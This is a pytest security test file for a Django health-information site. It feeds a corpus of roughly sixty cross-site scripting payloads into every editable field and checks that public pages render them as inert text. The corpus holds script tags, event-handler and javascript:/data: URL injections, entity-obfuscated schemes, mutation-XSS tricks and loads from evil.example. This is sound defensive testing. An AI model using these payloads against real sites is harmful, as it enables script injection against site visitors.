"""Hostile text in any field an editor can fill never becomes markup that runs on a public page.

Each corpus entry goes into every user-editable text field at once (names, alternate names,
summaries, Markdown bodies, urgent help, review notes, FAQ questions and answers, tag names,
knee areas, red-flag advice and the reviewer's public details); every public page that shows
them is then parsed and checked. The search page also gets each entry as the typed query.
"""

import json
import re
from collections import Counter
from datetime import date
from html.parser import HTMLParser

import pytest
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from django.utils.http import urlencode

from conditions.models import (
    ClinicianProfile,
    Condition,
    KneeArea,
    RedFlagRule,
    Status,
    Symptom,
    Tag,
    Treatment,
)
from conditions.services import many_changes
from conditions.text import ALLOWED_TAGS
from faq.models import FAQ
from tests.conftest import plain_static_files

# Raw NUL bytes can only reach the database on SQLite: PostgreSQL refuses them in text, and
# Django's form fields reject them before they get there.
NUL = pytest.mark.skipif(
    connection.vendor == "postgresql", reason="PostgreSQL cannot store NUL characters"
)

# One hostile string per entry; each fits the shortest field that must hold it whole (100 chars).
CORPUS = [
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<ScRiPt>alert(2)</sCrIpT>", id="script-mixed-case"),
    pytest.param('<script src="https://evil.example/x.js"></script>', id="script-src"),
    pytest.param("<<script>alert(3);//<</script>", id="script-double-open"),
    pytest.param("<scr<script>ipt>alert(4)</scr</script>ipt>", id="script-nested"),
    pytest.param("<img src=x onerror=alert(5)>", id="img-onerror"),
    pytest.param("<img src=x onerror=alert(6)//", id="img-onerror-unclosed"),
    pytest.param("<IMG SRC=x OnErRoR=alert(7)>", id="img-onerror-mixed-case"),
    pytest.param("<svg onload=alert(8)>", id="svg-onload"),
    pytest.param("<svg><script>alert(9)</script></svg>", id="svg-script"),
    pytest.param(
        "<svg><a><animate attributeName=href values=javascript:alert(10) /><text>x</a></svg>",
        id="svg-animate-href",
    ),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>", id="math-mxss"
    ),
    pytest.param("[click](javascript:alert(12))", id="md-link-javascript"),
    pytest.param("[click](JaVaScRiPt:alert(13))", id="md-link-mixed-case"),
    pytest.param("[click](&#106;avascript:alert(14))", id="md-link-entity"),
    pytest.param("[click](javascript&#x3A;alert(15))", id="md-link-entity-colon"),
    pytest.param("[click][x]\n\n[x]: javascript:alert(16)", id="md-reference-link"),
    pytest.param("<javascript:alert(17)>", id="md-autolink-javascript"),
    pytest.param(
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxOCk8L3NjcmlwdD4=)", id="md-link-data"
    ),
    pytest.param('[x](https://example.com "a\\" onmouseover=\\"alert(19)")', id="md-link-title"),
    pytest.param("[<img src=x onerror=alert(20)>](https://example.com)", id="md-link-text-img"),
    pytest.param('![x" onerror="alert(21)](https://example.com/x.png)', id="md-image-alt"),
    pytest.param('![x](x" onerror="alert(22))', id="md-image-src"),
    pytest.param("![x](javascript:alert(23))", id="md-image-javascript"),
    pytest.param('<a href="javascript:alert(24)">click</a>', id="a-javascript"),
    pytest.param('<a href="java&#09;script:alert(25)">click</a>', id="a-javascript-tab"),
    pytest.param('<a href="jav&#x0A;ascript:alert(26)">click</a>', id="a-javascript-newline"),
    pytest.param('<a href=" &#14;javascript:alert(27)">click</a>', id="a-javascript-control"),
    pytest.param(
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(28)">',
        id="a-javascript-all-entities",
    ),
    pytest.param('<a href="data:text/html,<script>alert(29)</script>">x</a>', id="a-data"),
    pytest.param('<a href="vbscript:msgbox(30)">x</a>', id="a-vbscript"),
    pytest.param('<a href="https://example.com" onclick="alert(31)">x</a>', id="a-onclick"),
    pytest.param('<abbr title="x&quot; onmouseover=&quot;alert(32)">x</abbr>', id="abbr-title"),
    pytest.param('<iframe src="javascript:alert(33)"></iframe>', id="iframe"),
    pytest.param('<iframe srcdoc="<script>alert(34)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="javascript:alert(35)"></object>', id="object"),
    pytest.param('<embed src="data:text/html,<script>alert(36)</script>">', id="embed"),
    pytest.param('<style>body{background:url("javascript:alert(37)")}</style>', id="style"),
    pytest.param('<p style="background:url(javascript:alert(38))">x</p>', id="style-attr"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link"),
    pytest.param('<form action="javascript:alert(39)"><button>Go</button></form>', id="form"),
    pytest.param('<button formaction="javascript:alert(40)">x</button>', id="formaction"),
    pytest.param("<input autofocus onfocus=alert(41)>", id="input-autofocus"),
    pytest.param("<details open ontoggle=alert(42)>", id="details-ontoggle"),
    pytest.param("<body onload=alert(43)>", id="body-onload"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(44)">', id="meta-refresh"
    ),
    pytest.param('<base href="https://evil.example/">', id="base"),
    pytest.param('" onmouseover="alert(45)', id="attr-breakout-double"),
    pytest.param("' onfocus='alert(46)' autofocus='", id="attr-breakout-single"),
    pytest.param('"><script>alert(47)</script>', id="attr-breakout-tag"),
    pytest.param("</textarea><script>alert(48)</script>", id="textarea-breakout"),
    pytest.param("</title><script>alert(49)</script>", id="title-breakout"),
    pytest.param("<!-- --><script>alert(50)</script><!-- -->", id="comment-around"),
    pytest.param('<!--<img src="--><img src=x onerror=alert(51)//">', id="comment-hiding"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(52)>">', id="noscript-mxss"
    ),
    pytest.param("<xmp><script>alert(53)</script></xmp>", id="xmp"),
    # The link to Baker's cyst must not be written inside an attribute and close it early.
    pytest.param(
        '<abbr title="> Baker\'s cyst <img src=x onerror=alert(58)>">x</abbr>', id="autolink-abbr"
    ),
    pytest.param(
        '[x](https://example.com "> Baker\'s cyst <img src=x onerror=alert(59)>")',
        id="autolink-link-title",
    ),
    pytest.param("`<script>alert(54)</script>`", id="md-code-span"),
    pytest.param("&lt;script&gt;alert(55)&lt;/script&gt;", id="entity-encoded-script"),
    pytest.param("<scr\x00ipt>alert(56)</scr\x00ipt>", id="nul-in-tag", marks=NUL),
    pytest.param("<img src=x o\x00nerror=alert(57)>", id="nul-in-attribute", marks=NUL),
]
assert all(len(param.values[0]) <= 100 for param in CORPUS), "an entry is too long for a tag"

# Attributes that hold a URL a browser may load or navigate to.
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "cite", "ping",
    "srcset", "xlink:href", "codebase", "dynsrc", "lowsrc", "values", "to", "from",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
# Elements that run, load or restyle something, or hide markup from a sanitiser: however they
# got there, none belongs on a public page of this site.
ALWAYS_FORBIDDEN = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "param", "style", "base",
    "template", "noscript", "xmp", "plaintext", "math", "animate", "set", "foreignobject",
    "portal", "isindex",
}  # fmt: skip
# Counted in the raw text too, so one parser's repair of broken markup cannot hide them.
RAW_COUNTED = {
    "script", "svg", "form", "input", "button", "select", "textarea", "link", "meta", "img",
    "image", "video", "audio", "source", "picture", "use", *ALWAYS_FORBIDDEN,
}  # fmt: skip
RAW_TAG = re.compile(r"<\s*(" + "|".join(sorted(RAW_COUNTED)) + r")\b", re.I)
# "alternate": every page names itself in each language (hreflang).
LINK_RELS = {"stylesheet", "icon", "canonical", "alternate"}
# What user text may turn into, in any number: the Markdown sanitiser's elements, the links the
# site adds to condition names in body text, and search's <mark> around matched words.
TEXT_ELEMENTS = ALLOWED_TAGS | {"mark"}
JSON_LD = [("type", "application/ld+json")]
# The site's own scripts, static files its templates name: "Was this page helpful?".
OWN_SCRIPTS = [[("src", "/static/js/feedback.js"), ("defer", None)]]


def _url_is_dangerous(value):
    """Whether a browser would treat the URL as script or inline content."""
    # Browsers drop ASCII tab and newlines anywhere in a URL, and control characters and
    # spaces at its ends; html.parser has already decoded character references.
    squeezed = re.sub(r"[\t\n\r]", "", value).strip("\x00- ").lower()
    return squeezed.startswith(BAD_SCHEMES)


class PageMarkup(HTMLParser):
    """A page's elements, and anything in it that could run script whatever the page."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.elements = Counter()
        self.raw = Counter(match.group(1).lower() for match in RAW_TAG.finditer(html))
        self._script = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements[tag] += 1
        attributes = dict(attrs)
        if tag in ALWAYS_FORBIDDEN:
            self.problems.append(f"<{tag}> element")
        if tag == "script" and attrs in OWN_SCRIPTS:
            return
        if tag == "script":
            # Only JSON-LD data blocks, which browsers never run; their JSON must parse, or
            # something closed the block early.
            if attrs != JSON_LD:
                self.problems.append(f"<script {attrs}> that would run")
            self._script = []
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        if tag == "link" and attributes.get("rel") not in LINK_RELS:
            self.problems.append(f"<link rel={attributes.get('rel')!r}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            elif name in {"style", "srcdoc"}:
                self.problems.append(f"<{tag} {name}=...> attribute")
            elif name in URL_ATTRIBUTES and _url_is_dangerous(value or ""):
                self.problems.append(f"<{tag} {name}={value!r}> URL")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            try:
                json.loads("".join(self._script))
            except ValueError:
                self.problems.append("<script> data block that is not whole JSON")
            self._script = None


def executable_markup(html, template_markup):
    """Everything in `html` that could run script, as readable descriptions.

    `template_markup` is the same page holding plain words: elements beyond what it has, other
    than those user text may become, were injected.
    """
    page = PageMarkup(html)
    injected = page.elements - template_markup.elements
    raw_injected = page.raw - template_markup.raw
    return [
        *page.problems,
        *(f"injected <{tag}> x{n}" for tag, n in injected.items() if tag not in TEXT_ELEMENTS),
        *(f"raw <{tag} x{n}" for tag, n in raw_injected.items()),
    ]


def _fit(model, field_name, value):
    """Cut `value` to the field's length, as the admin form would make an editor do."""
    max_length = model._meta.get_field(field_name).max_length
    return value[:max_length] if max_length else value


def _create(model, **fields):
    return model.objects.create(**{name: _fit(model, name, v) for name, v in fields.items()})


# Condition pages link the first mention of another condition's name in their body text, by
# rewriting the sanitised HTML; every Markdown field mentions this one.
LINKED_NAME = "Baker's cyst"


def markdown_text(payload):
    """A Markdown field holding `payload` on its own and inside a sentence."""
    return f"{payload}\n\nSome words before {payload} and after, as with {LINKED_NAME}.\n"


# As an import would: one transaction, one bump of the page cache, one snapshot per version.
@many_changes()
def store_hostile_content(payload, key, user_model):
    """Put `payload` in every editable text field of one linked set of published content.

    Returns {page: URL} for the public pages that show it; `key` keeps slugs apart when
    several sets are stored.
    """
    reviewer = _create(
        user_model, username=f"reviewer-{key}", first_name=payload, last_name=payload
    )
    _create(ClinicianProfile, user=reviewer, profession=payload, registration_number=payload)
    reviewed = {"reviewed_by": reviewer, "last_reviewed_on": date(2025, 1, 1)}
    published = {"status": Status.PUBLISHED, "review_note": payload, **reviewed}
    named = {
        "name": payload,
        "alternate_names": f"{payload}\nother words for {payload}",
        **published,
    }
    tag = _create(Tag, name=payload)
    area = _create(KneeArea, name=payload, slug=f"hostile-area-{key}")

    symptom = _create(
        Symptom, slug=f"hostile-symptom-{key}", description=markdown_text(payload), **named
    )
    treatment = _create(
        Treatment, slug=f"hostile-treatment-{key}", description=markdown_text(payload), **named
    )
    condition, other = (
        _create(
            Condition,
            slug=f"hostile-condition-{key}-{n}",
            summary=payload,
            body=markdown_text(payload),
            urgency=Condition.Urgency.URGENT,
            urgent_help=f"{payload}\n{payload}",
            **named,
        )
        for n in (1, 2)
    )
    condition.symptoms.set([symptom])
    condition.treatments.set([treatment])
    condition.knee_areas.set([area])
    condition.related.set([other])
    _create(
        Condition,
        slug=f"linked-condition-{key}",
        name=LINKED_NAME,
        summary="Plain words.",
        status=Status.PUBLISHED,
    )
    faq = _create(
        FAQ,
        slug=f"hostile-question-{key}",
        question=payload,
        answer=markdown_text(payload),
        **published,
    )
    faq.conditions.set([condition])
    rule = _create(RedFlagRule, name=payload, advice=f"{payload}\n{payload}")
    rule.symptoms.set([symptom])
    for item in (symptom, treatment, condition, other, faq):
        item.tags.set([tag])

    checker = reverse("conditions:symptom_checker")
    search = reverse("search:results")
    return {
        "home": reverse("conditions:home"),
        "condition list": reverse("conditions:condition_list"),
        "condition": condition.get_absolute_url(),
        "symptom list": reverse("conditions:symptom_list"),
        "symptom": symptom.get_absolute_url(),
        "treatment list": reverse("conditions:treatment_list"),
        "treatment": treatment.get_absolute_url(),
        "tag list": reverse("conditions:tag_list"),
        "tag": tag.get_absolute_url(),
        "faq": reverse("faq:list"),
        "faq question": faq.get_absolute_url(),
        "symptom checker": f"{checker}?symptom={symptom.slug}&area={area.slug}",
        # What a patient types is shown back too; "words" finds every item above by its text.
        "search for it": f"{search}?{urlencode({'q': payload})}",
        "search results": f"{search}?q=words",
        "sitemap": reverse("sitemap"),
    }


def get_page(client, url):
    response = client.get(url)
    assert response.status_code == 200, f"{url} answered {response.status_code}"
    return response.content.decode()


@pytest.fixture(scope="module")
def template_markup(django_db_setup, django_db_blocker):
    """{page: PageMarkup} of each public page filled with plain words: the templates' own markup."""
    with django_db_blocker.unblock(), plain_static_files(), transaction.atomic():
        urls = store_hostile_content("Plain words", "plain", get_user_model())
        markup = {page: PageMarkup(get_page(Client(), url)) for page, url in urls.items()}
        transaction.set_rollback(True)
    return markup


def storable_payloads():
    """The corpus entries this database can hold, for tests that store them all at once."""
    return [
        param.values[0]
        for param in CORPUS
        if connection.vendor != "postgresql" or "\x00" not in param.values[0]
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", CORPUS)
def test_hostile_text_in_every_field_renders_as_inert_text(
    client, django_user_model, template_markup, payload
):
    urls = store_hostile_content(payload, "1", django_user_model)

    pages = {page: get_page(client, url) for page, url in urls.items()}
    problems = {
        page: found
        for page, html in pages.items()
        if (found := executable_markup(html, template_markup[page]))
    }
    assert not problems, f"executable markup on public pages: {problems}"

    # The patient still sees the odd name, word for word, as text.
    assert f"<h1>{escape(payload)}</h1>" in pages["condition"]
    assert f"<h1>Topic: {escape(payload)}</h1>" in pages["tag"]


@pytest.mark.django_db
def test_condition_bodies_link_the_condition_every_field_mentions(client, django_user_model):
    # Otherwise the autolink entries of the corpus would not reach the code that adds links.
    urls = store_hostile_content("Plain words", "1", django_user_model)
    page = get_page(client, urls["condition"])
    assert f'<a href="/conditions/linked-condition-1/">{LINKED_NAME}</a>' in page


@pytest.mark.parametrize(
    "html",
    [
        "<p>fine</p><SCRIPT>x()</SCRIPT>",
        '<script type="application/ld+json">{"name": "</script><script>x()</script>',
        '<p onclick="x()">fine</p>',
        '<a href=" JaVa&#x09;ScRiPt:x()">x</a>',
        '<a href="&#x64;ata:text/html,x">x</a>',
        '<meta http-equiv="refresh" content="0">',
        "<svg/onload=x()>",
        '<form action="https://evil.example/"></form>',
        "<iframe src=/></iframe>",
    ],
)
def test_checker_reports_executable_markup(html):
    # Guards the guard: a checker that found nothing would let every test above pass.
    assert executable_markup(html, PageMarkup(""))


def test_checker_accepts_the_sites_own_markup():
    html = (
        '<html><head><meta charset="utf-8"><link rel="stylesheet" href="/static/css/site.css">'
        '<script type="application/ld+json">{"name": "\\u003cscript\\u003e"}</script>'
        '</head><body><a href="https://example.com" rel="noopener noreferrer">x</a>'
        '<form method="get" action="/symptom-checker/"><input type="checkbox" name="s"></form>'
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; onerror=alert(1)</p></body></html>"
    )
    template = PageMarkup(html.replace("<a href", "<b").replace("</a>", "</b>"))
    assert executable_markup(html, template) == []
